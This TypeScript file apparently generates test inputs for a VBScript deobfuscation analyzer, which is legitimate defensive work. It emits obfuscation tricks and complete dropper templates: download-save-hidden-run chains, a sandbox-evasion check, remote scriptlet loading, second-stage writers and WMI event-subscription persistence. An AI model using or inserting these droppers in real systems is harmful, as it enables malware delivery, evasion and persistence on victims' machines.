// Builds VBScript the way droppers write it, from plain strings and scripts: each function applies one trick
// (Chr concatenation, StrReverse, Replace chains, Split/Join, a shift cipher decoded by a user Function,
// Execute layers, the Script Encoder), so a test knows exactly what the analyzer must undo. Also benign
// admin scripts, WSF/HTA wrappers and hostile scripts (deep Execute nesting, string bombs).

import { encodeJse } from './jscript.ts';

/** A VBScript string literal. */
export function literal(value: string): string {
  return `"${value.replace(/"/g, '""')}"`;
}

/** The text as Chr(n) & Chr(n) & … */
export function chrConcat(value: string): string {
  return [...value].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ');
}

/** The text as ChrW(a + b) with hex and arithmetic, the way packers vary it. */
export function chrwArithmetic(value: string): string {
  return [...value].map((c, i) => {
    const code = c.charCodeAt(0);
    return i % 2 === 0 ? `ChrW(&H${(code - 7).toString(16).toUpperCase()} + 7)` : `ChrW(${code * 3} / 3)`;
  }).join(' & ');
}

/** The text reversed in the source: StrReverse("…"). */
export function reversed(value: string): string {
  return `StrReverse(${literal([...value].reverse().join(''))})`;
}

/** The text with junk markers inserted, repaired by a chain of Replace calls. */
export function replaceChain(value: string, junk = ['~!', 'QZ', '%%']): string {
  let text = '';
  [...value].forEach((c, i) => (text += c + junk[i % junk.length]!));
  let expr = literal(text);
  for (const j of junk) expr = `Replace(${expr}, ${literal(j)}, "")`;
  return expr;
}

/** The text split into pieces in an Array and joined again. */
export function splitJoin(value: string, size = 3): string {
  const parts: string[] = [];
  for (let i = 0; i < value.length; i += size) parts.push(literal(value.slice(i, i + size)));
  return `Join(Array(${parts.join(', ')}), "")`;
}

/** A user Function that undoes a +shift cipher character by character, and its call on `value`. */
export function shiftCipher(value: string, shift = 3, name = 'Unshift'): { fn: string; call: string } {
  const encoded = [...value].map((c) => String.fromCharCode(c.charCodeAt(0) + shift)).join('');
  const fn = [
    `Function ${name}(s)`,
    '  Dim i, r',
    '  r = ""',
    '  For i = 1 To Len(s)',
    `    r = r & Chr(Asc(Mid(s, i, 1)) - ${shift})`,
    '  Next',
    `  ${name} = r`,
    'End Function',
  ].join('\r\n');
  return { fn, call: `${name}(${literal(encoded)})` };
}

/**
 * The script wrapped in `depth` Execute layers; each layer hides the previous one behind Replace of a
 * per-layer quote placeholder, so the text grows linearly with depth.
 */
export function executeLayers(script: string, depth: number): string {
  let text = script;
  for (let i = 1; i <= depth; i++) {
    const mark = `Q${i}Q`;
    const flat = text.replace(/\r?\n/g, ' : ');
    text = `Execute Replace("${flat.replace(/"/g, mark)}", "${mark}", Chr(34))`;
  }
  return text;
}

/** A dropper: fetch `url` with MSXML2.XMLHTTP, save it with ADODB.Stream, run it with WScript.Shell. */
export function downloader(opts: { url: string; path: string; command: string; obfuscate?: (s: string) => string }): string {
  const o = opts.obfuscate ?? literal;
  return [
    'Option Explicit',
    'On Error Resume Next',
    'Dim http, stream, shell, target, where',
    `target = ${o(opts.url)}`,
    `where = ${o(opts.path)}`,
    `Set http = CreateObject(${o('MSXML2.ServerXMLHTTP.6.0')})`,
    'http.Open "GET", target, False',
    'http.setRequestHeader "User-Agent", "Mozilla/5.0"',
    'http.Send',
    'If http.Status = 200 Then',
    '  Set stream = CreateObject("ADODB.Stream")',
    '  stream.Open',
    '  stream.Type = 1',
    '  stream.Write http.ResponseBody',
    '  stream.Position = 0',
    '  stream.SaveToFile where, 2',
    '  stream.Close',
    'End If',
    'WScript.Sleep 2000',
    `Set shell = CreateObject(${o('WScript.Shell')})`,
    `shell.Run ${o(opts.command)}, 0, False`,
  ].join('\r\n');
}

/** A WSF file with one VBScript job. */
export function wsf(vbscript: string, language = 'VBScript'): string {
  return `<?xml version="1.0"?>\r\n<package>\r\n<job id="main">\r\n<script language="${language}">\r\n<![CDATA[\r\n${vbscript}\r\n]]>\r\n</script>\r\n</job>\r\n</package>\r\n`;
}

/** An HTA whose VBScript runs from Window_OnLoad (the host calls it; nothing in the script does). */
export function hta(vbscriptBody: string): string {
  return [
    '<html><head><title>Document</title>',
    '<hta:application id="app" windowstate="minimize" showintaskbar="no" />',
    '<script language="VBScript">',
    'Sub Window_OnLoad',
    vbscriptBody,
    '  self.close',
    'End Sub',
    '</script></head><body></body></html>',
  ].join('\r\n');
}

/** The Windows Script Encoder (screnc.exe, .vbe and .jse): the same encoder the JScript tests use. */
export const scriptEncode = encodeJse;

/** A logon script an IT department writes: drives, printers, a log file, an OS query. Nothing suspicious. */
export function adminLogonScript(): string {
  return [
    "' Logon script: map the department shares and log the logon",
    'Option Explicit',
    'Dim net, fso, shell, logFile, wmi, os, item, user, drives, i',
    'Set net = CreateObject("WScript.Network")',
    'Set fso = CreateObject("Scripting.FileSystemObject")',
    'Set shell = CreateObject("WScript.Shell")',
    'user = shell.ExpandEnvironmentStrings("%USERNAME%")',
    'drives = Array("H:", "S:")',
    'For i = 0 To UBound(drives)',
    '  net.MapNetworkDrive drives(i), "\\\\fileserver\\" & LCase(Replace(drives(i), ":", "")) & "$"',
    'Next',
    'Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")',
    'For Each os In wmi.ExecQuery("Select Caption, Version From Win32_OperatingSystem")',
    '  item = os.Caption & " " & os.Version',
    'Next',
    'If Not fso.FolderExists("C:\\Logs") Then fso.CreateFolder "C:\\Logs"',
    'Set logFile = fso.OpenTextFile("C:\\Logs\\logon.log", 8, True)',
    'logFile.WriteLine Now & " " & user & " logged on (" & item & ")"',
    'logFile.Close',
    'WScript.Echo "Welcome, " & user',
  ].join('\r\n');
}

/** An inventory script: reads the registry and disk space, writes a CSV report, opens it in Notepad. */
export function adminInventoryScript(): string {
  return [
    'Option Explicit',
    'Const ForWriting = 2',
    'Dim shell, fso, out, wmi, disk, version',
    'Set shell = CreateObject("WScript.Shell")',
    'Set fso = CreateObject("Scripting.FileSystemObject")',
    'version = shell.RegRead("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\ProductName")',
    'Set out = fso.CreateTextFile("C:\\Reports\\inventory.csv", True)',
    'out.WriteLine "Drive,FreeGB," & Chr(34) & version & Chr(34)',
    'Set wmi = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2")',
    'For Each disk In wmi.ExecQuery("Select * From Win32_LogicalDisk Where DriveType = 3")',
    '  out.WriteLine disk.DeviceID & "," & Round(disk.FreeSpace / 1073741824, 1)',
    'Next',
    'out.Close',
    'shell.Run "notepad.exe C:\\Reports\\inventory.csv", 1, False',
  ].join('\r\n');
}

/** A dropper organised as a Class with a property setter, a sandbox check that quits, and a CLSID moniker. */
export function classDropper(opts: { url: string; command: string }): string {
  return [
    'Class Loader',
    '  Private target',
    '  Public Property Let Address(value)',
    '    target = StrReverse(value)',
    '  End Property',
    '  Public Function Fetch()',
    '    Dim http : Set http = CreateObject("WinHttp.WinHttpRequest.5.1")',
    '    http.Open "GET", target, False',
    '    http.Send',
    '    Fetch = http.ResponseText',
    '  End Function',
    'End Class',
    "' A global with a field's name: inside the class the field wins.",
    'Dim wmi, n, target',
    'target = "not the address"',
    'Set wmi = GetObject("winmgmts:\\\\.\\root\\cimv2")',
    'n = 0',
    'For Each p In wmi.ExecQuery("Select * From Win32_ComputerSystem") : n = p.NumberOfLogicalProcessors : Next',
    "' A sandbox has one processor: stop there.",
    'If n < 2 Then WScript.Quit',
    'Dim l : Set l = New Loader',
    `l.Address = ${literal([...opts.url].reverse().join(''))}`,
    'l.Fetch',
    `GetObject("new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}").Run ${literal(opts.command)}, 0`,
  ].join('\r\n');
}

/** VBScript that hands JScript to a ScriptControl, and loads a remote scriptlet. */
export function scriptControlDropper(jscript: string, scriptletUrl: string): string {
  return [
    'Set sc = CreateObject("MSScriptControl.ScriptControl")',
    'sc.Language = "JScript"',
    `sc.AddCode ${literal(jscript)}`,
    `Set o = GetObject("script:${scriptletUrl}")`,
  ].join('\r\n');
}

/**
 * A downloader written defensively, as tools and droppers copy it: fallback ProgIDs tested with Is Nothing,
 * Err checks, and early Exit Function paths that clear the request object.
 */
export function fallbackDownloader(opts: { url: string; path: string }): string {
  return [
    'On Error Resume Next',
    `Fetch ${literal(opts.url)}, ${literal(opts.path)}`,
    'Function Fetch(address, where)',
    '  Dim web, body',
    '  Set web = Nothing',
    '  Set web = CreateObject("WinHttp.WinHttpRequest.5.1")',
    '  If web Is Nothing Then Set web = CreateObject("MSXML2.ServerXMLHTTP")',
    '  web.Open "GET", address, False',
    '  web.Send',
    '  If Err.Number <> 0 Then',
    '    Set web = Nothing',
    '    Exit Function',
    '  End If',
    '  If web.Status <> 200 Then',
    '    Set web = Nothing',
    '    Fetch = False',
    '    Exit Function',
    '  End If',
    '  body = web.ResponseBody',
    '  With CreateObject("ADODB.Stream")',
    '    .Type = 1 : .Open : .Write body : .SaveToFile where, 2 : .Close',
    '  End With',
    '  Fetch = True',
    'End Function',
  ].join('\r\n');
}

/** A first stage that decodes a second-stage script, writes it next to itself and opens it. */
export function scriptWriter(secondStage: string, path: string): string {
  const { fn, call } = shiftCipher(secondStage, 2, 'Decode');
  return [
    fn,
    `Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(${literal(path)}, True)`,
    `f.Write ${call}`,
    'f.Close',
    `CreateObject("Shell.Application").Open ${literal(path)}`,
  ].join('\r\n');
}

/** A WMI event subscription: a filter on a timer event, a command-line consumer, and their binding. */
export function wmiSubscription(command: string): string {
  return [
    'Set svc = GetObject("winmgmts:\\\\.\\root\\subscription")',
    'Set filter = svc.Get("__EventFilter").SpawnInstance_',
    'filter.Name = "Updater" : filter.QueryLanguage = "WQL"',
    'filter.Query = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \'Win32_PerfFormattedData_PerfOS_System\'"',
    'Set fpath = filter.Put_',
    'Set consumer = svc.Get("CommandLineEventConsumer").SpawnInstance_',
    `consumer.Name = "Updater" : consumer.CommandLineTemplate = ${literal(command)}`,
    'Set cpath = consumer.Put_',
    'Set binding = svc.Get("__FilterToConsumerBinding").SpawnInstance_',
    'binding.Filter = fpath : binding.Consumer = cpath : binding.Put_',
  ].join('\r\n');
}

/** A decoder Function hidden in an ExecuteGlobal layer, then called by the outer script for its URL and command. */
export function executedLibrary(opts: { url: string; command: string }): string {
  const { fn } = shiftCipher('', 1, 'Dx');
  const encode = (s: string) => literal([...s].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join(''));
  return [
    // One line, statements joined with ':', as a string literal cannot hold a line break.
    `ExecuteGlobal ${reversed(fn.replace(/\r\n\s*/g, ' : '))}`,
    'Set h = CreateObject("MSXML2.XMLHTTP")',
    `h.Open "GET", Dx(${encode(opts.url)}), False`,
    'h.Send',
    `CreateObject("WScript.Shell").Run Dx(${encode(opts.command)}), 0`,
  ].join('\r\n');
}

/**
 * A script that executes itself: the text it builds with Replace is its own source (a quine), so peeling would
 * never end without the repeated-layer guard.
 */
export function selfExecuting(): string {
  const body = 'a = Q : Execute Replace(a, Chr(81), Chr(34) & a & Chr(34))';
  return body.replace('Q', literal(body));
}
